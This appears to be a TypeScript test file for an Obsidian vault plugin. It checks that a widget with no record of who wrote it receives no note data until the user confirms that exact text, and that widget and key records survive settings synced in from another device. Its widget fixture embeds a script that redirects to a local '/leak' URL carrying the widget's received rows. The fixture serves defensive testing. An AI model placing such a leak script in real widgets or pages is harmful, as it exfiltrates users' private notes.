import { createHash } from 'node:crypto';
import { promises as fs } from 'node:fs';
import type VaultMcpPlugin from '../../../src/main';
import { USER_WRITER_ID } from '../../../src/keys/widget-writers';
import { vaultWidgetSource, WIDGET_BLOCK_LANGUAGE } from '../../../src/ui/widgets/widget-block';
import { WidgetStopped } from '../../../src/ui/widgets/widget-frame';
import { createHostElement, type HostElement } from '../../host/ui/dom';
import { HostPostProcessorContext } from '../../host/workspace/markdown-render-child';
import { copyToTemp, DEMO_VAULT } from '../../harness/temp-copy';
import { bootWriteEnvIn, call, writeVaultFiles, type WriteEnv } from '../../harness/edits/write-helpers';

/**
 * A widget no record says who wrote gets no data until the user confirms it (verifier s30 F4,
 * docs/widgets.md#whose-view-a-widget-shows): a narrow key's widget must never get the user's
 * whole view because data.json lacks its records (kept aside as damaged, restored from an older
 * copy, another device, or an older data.json synced in while Obsidian runs). The verifier's
 * steps, through the real plugin over HTTP: force key KeyA (roots Projects, Widgets) writes a
 * widget whose script would send its rows out by navigating.
 */

const QUERY = 'WHERE status exists SORT file.path COLUMNS status, secretfield LIMIT 1000';

function widgetHtml(query = QUERY): string {
  const manifest = JSON.stringify({ name: 'Board', description: 'Open items', query });
  return (
    `<!doctype html><html><head><script type="application/json" id="vault-mcp-widget">${manifest}</script></head><body><script>` +
    "addEventListener('message',e=>{location.href='http://127.0.0.1:27877/leak?d='+encodeURIComponent(JSON.stringify(e.data))})" +
    '</script></body></html>'
  );
}

const NOTES = {
  'Secret/S1.md': '---\nstatus: open\nsecretfield: outside the roots\n---\nS1\n',
  'Journal/J1.md': '---\nstatus: open\nsecretfield: quarantined journal\n---\nJ1\n',
  'Projects/Open.md': '---\nstatus: open\nsecretfield: fine\n---\nOpen\n',
};
const NARROW = ['Projects/Alpha/Alpha overview.md', 'Projects/Beta/Beta overview.md', 'Projects/Open.md'];
const sha256 = (text: string): string => createHash('sha256').update(text, 'utf8').digest('hex');
const UNCONFIRMED =
  "Widget 'board' has no record of who wrote it (a key whose record did not reach this copy of the vault's settings, or you), " +
  'so it shows no data until you read it and choose "Show with my view" in its place.';

type Rows = { rows: unknown[][] };

/** Boots KeyA (force; roots Projects, Widgets; Journal quarantined) on `dir`. */
function bootIn(dir: string, remove: () => Promise<void> = async () => undefined): Promise<WriteEnv> {
  return bootWriteEnvIn(
    dir,
    {
      label: 'KeyA',
      mode: 'force',
      roots: ['Projects', 'Widgets'],
      configure: (s) => {
        s.access.quarantine = ['Journal'];
      },
    },
    remove,
  );
}

/** The block's source as src/main.ts registers it. */
const sourceOf = (plugin: VaultMcpPlugin) => vaultWidgetSource(plugin.notes, plugin.widgetWriters);

/** What a frame of widget `id` gets now: its rows' paths, 'unconfirmed', or the sentence shown instead. */
async function shows(plugin: VaultMcpPlugin, id = 'board'): Promise<unknown> {
  const loaded = await sourceOf(plugin).load(id);
  if ('error' in loaded) return loaded.error;
  if ('unconfirmed' in loaded) return 'unconfirmed';
  return ((await sourceOf(plugin).run(QUERY, id, loaded.shown)) as Rows).rows.map((r) => r[0]);
}

/** Renders widget block `id` through the plugin's code block processor: the block's element and the frames it added. */
async function renderBlock(plugin: VaultMcpPlugin, id = 'board'): Promise<{ el: HostElement; frames: unknown[] }> {
  const processor = (plugin as unknown as { codeBlockProcessors: Map<string, (...a: unknown[]) => Promise<void>> }).codeBlockProcessors.get(
    WIDGET_BLOCK_LANGUAGE,
  )!;
  const frames: unknown[] = [];
  const ctx = new HostPostProcessorContext('Notes/board.md');
  ctx.addChild = (child) => void frames.push(child);
  const el = createHostElement('div') as unknown as HostElement;
  await processor(`${id}\n`, el, ctx);
  return { el, frames };
}

/** Every element under `el` (itself first). */
const all = (el: HostElement): HostElement[] => [el, ...el.children.flatMap(all)];

describe('a widget without a record of who wrote it (verifier s30 F4)', () => {
  test("a key's widget whose records are lost gets no data, and on a fresh instance too, until the user confirms that exact text", async () => {
    const dir = (await copyToTemp(DEMO_VAULT)).dir;
    await writeVaultFiles(dir, NOTES);
    let env: WriteEnv | null = await bootIn(dir);
    try {
      await env.booted.app.metadataCache.whenResolved();
      const plugin = env.booted.plugin;
      expect((await call(env.client, 'widget_write', { id: 'board', html: widgetHtml() })).status).toBe('applied');
      expect(await shows(plugin)).toEqual(NARROW);
      const loaded = await sourceOf(plugin).load('board');
      if (!('shown' in loaded)) throw new Error(JSON.stringify(loaded));
      // The records emptied, as when data.json was read torn and the plugin started from defaults.
      plugin.settings.widgetWriters = {};
      plugin.settings.widgetTexts = {};
      expect(await sourceOf(plugin).load('board')).toEqual({
        unconfirmed: { path: 'Widgets/board.html', html: widgetHtml(), hash: sha256(widgetHtml()) },
      });
      // A frame already on screen stops at its next refresh instead of getting the user's view.
      await expect(sourceOf(plugin).run(QUERY, 'board', loaded.shown)).rejects.toThrow(new WidgetStopped(UNCONFIRMED));
      await expect(sourceOf(plugin).run(QUERY, 'board', { hash: sha256(widgetHtml()), writer: null })).rejects.toThrow(
        new WidgetStopped(UNCONFIRMED),
      );
      await env.done();
      env = null;

      // A fresh instance (another device: the widget file synced with the notes, the plugin's data not).
      env = await bootWriteEnvIn(dir, { label: 'Other', mode: 'propose' }, () => fs.rm(dir, { recursive: true, force: true }));
      await env.booted.app.metadataCache.whenResolved();
      const fresh = env.booted.plugin;
      expect(fresh.settings.widgetTexts).toEqual({});
      expect(await shows(fresh)).toBe('unconfirmed');
      // The block shows the confirm state in its place: no frame, so none of the widget's code runs.
      const { el, frames } = await renderBlock(fresh);
      expect(frames).toEqual([]);
      expect(el.getText()).toContain("Widget 'board' is not shown yet");
      expect(el.getText()).toContain('its script gets every note you can read');
      const button = all(el).find((e) => e.tagName === 'BUTTON')!;
      expect(button.getText()).toBe('Show with my view');
      expect(
        all(el)
          .find((e) => e.tagName === 'PRE')!
          .getText(),
      ).toBe(widgetHtml());

      // "Show with my view": the user is recorded as that exact text's writer, and the block is drawn again with its frame.
      button.dispatchEvent({ type: 'click' });
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(fresh.settings.widgetTexts[sha256(widgetHtml())]).toEqual({
        key_id: USER_WRITER_ID,
        key_label: '',
        written_at: expect.any(String),
      });
      expect(fresh.settings.widgetWriters).toEqual({});
      expect(frames).toHaveLength(1);
      expect(el.getText()).not.toContain('is not shown yet');
      const mine = (await shows(fresh)) as string[];
      expect(mine).toEqual(expect.arrayContaining(['Secret/S1.md', ...NARROW]));
      // Saved in data.json, so it holds after a restart.
      expect((await fresh.loadData()).widgetTexts[sha256(widgetHtml())]).toMatchObject({ key_id: USER_WRITER_ID });

      // Any other text at that name asks again: the confirmation is for the text the user saw.
      await env.booted.app.vault.modify(env.booted.app.vault.getFileByPath('Widgets/board.html')!, widgetHtml(`${QUERY} `));
      expect(await shows(fresh)).toBe('unconfirmed');
      // The confirmed text put back: the record is by text, so it shows the user's view again.
      await env.booted.app.vault.modify(env.booted.app.vault.getFileByPath('Widgets/board.html')!, widgetHtml());
      expect(await shows(fresh)).toEqual(mine);
    } finally {
      await env?.done();
    }
  });

  test("a confirmation never replaces a key's record, and one that cannot be saved is taken back (no data)", async () => {
    const dir = (await copyToTemp(DEMO_VAULT)).dir;
    await writeVaultFiles(dir, { ...NOTES, 'Widgets/mine.html': widgetHtml() });
    const env = await bootIn(dir, () => fs.rm(dir, { recursive: true, force: true }));
    try {
      await env.booted.app.metadataCache.whenResolved();
      const plugin = env.booted.plugin;
      const hash = sha256(widgetHtml());
      const original = plugin.saveSettings.bind(plugin);
      plugin.saveSettings = async () => {
        throw new Error('disk full');
      };
      expect(await sourceOf(plugin).confirm('mine', hash)).toBe(
        "Widget 'mine' is not shown: the plugin could not save your choice (disk full); try again.",
      );
      plugin.saveSettings = original;
      expect(plugin.settings.widgetTexts).toEqual({});
      expect(await shows(plugin, 'mine')).toBe('unconfirmed');
      // KeyA writes the same text as another widget: that text is KeyA's now, and a late confirmation changes nothing.
      expect((await call(env.client, 'widget_write', { id: 'board', html: widgetHtml() })).status).toBe('applied');
      expect(await sourceOf(plugin).confirm('mine', hash)).toBeNull();
      expect(plugin.settings.widgetTexts[hash]).toMatchObject({ key_label: 'KeyA' });
      expect(await shows(plugin, 'mine')).toEqual(NARROW);
    } finally {
      await env.done();
    }
  });

  test("a data.json synced in from a device that never saw the widget write keeps this device's newer widget records (and narrower keys)", async () => {
    const dir = (await copyToTemp(DEMO_VAULT)).dir;
    await writeVaultFiles(dir, NOTES);
    const env = await bootIn(dir, () => fs.rm(dir, { recursive: true, force: true }));
    try {
      await env.booted.app.metadataCache.whenResolved();
      const plugin = env.booted.plugin;
      const diskData = plugin.loadData.bind(plugin);
      // What the other device's data.json holds: the same keys and settings, without this device's newest widget records.
      const older = JSON.parse(JSON.stringify(plugin.settings));
      older.server.maxBodyBytes = 1024 * 1024; // a setting changed there
      expect((await call(env.client, 'widget_write', { id: 'board', html: widgetHtml() })).status).toBe('applied');
      expect(await shows(plugin)).toEqual(NARROW);
      const records = JSON.parse(JSON.stringify({ w: plugin.settings.widgetWriters, t: plugin.settings.widgetTexts }));
      (plugin as unknown as { loadData: () => Promise<unknown> }).loadData = async () => JSON.parse(JSON.stringify(older));
      await plugin.onExternalSettingsChange();
      expect(plugin.settings.server.maxBodyBytes).toBe(1024 * 1024); // the synced settings are taken...
      expect({ w: plugin.settings.widgetWriters, t: plugin.settings.widgetTexts }).toEqual(records); // ...the records are kept
      expect(await shows(plugin)).toEqual(NARROW);
      // And written back to data.json, so a restart (or the other device) has them too.
      const saved = await diskData();
      expect({ w: saved.widgetWriters, t: saved.widgetTexts }).toEqual(records);

      // The same kind for keys: KeyA narrowed here, then an older data.json (KeyA with its old roots) synced in.
      const stale = JSON.parse(JSON.stringify(plugin.settings));
      await plugin.keyRing.setRoots('runkey', ['Projects/Alpha']);
      (plugin as unknown as { loadData: () => Promise<unknown> }).loadData = async () => JSON.parse(JSON.stringify(stale));
      await plugin.onExternalSettingsChange();
      expect(plugin.keyRing.list().find((k) => k.id === 'runkey')!.roots).toEqual(['Projects/Alpha']);
      expect(await shows(plugin)).toEqual(['Projects/Alpha/Alpha overview.md']); // its widget narrowed with it
      expect((await diskData()).keys.find((k: { id: string }) => k.id === 'runkey').roots).toEqual(['Projects/Alpha']);
      // A change made there later than the narrowing here is taken (the user's latest choice).
      const later = {
        ...stale,
        keys: stale.keys.map((k: Record<string, unknown>) => ({
          ...k,
          roots: ['Projects'],
          changed_at: new Date(Date.now() + 60_000).toISOString(),
        })),
      };
      (plugin as unknown as { loadData: () => Promise<unknown> }).loadData = async () => JSON.parse(JSON.stringify(later));
      await plugin.onExternalSettingsChange();
      expect(plugin.keyRing.list().find((k) => k.id === 'runkey')!.roots).toEqual(['Projects']);
    } finally {
      await env.done();
    }
  });
});
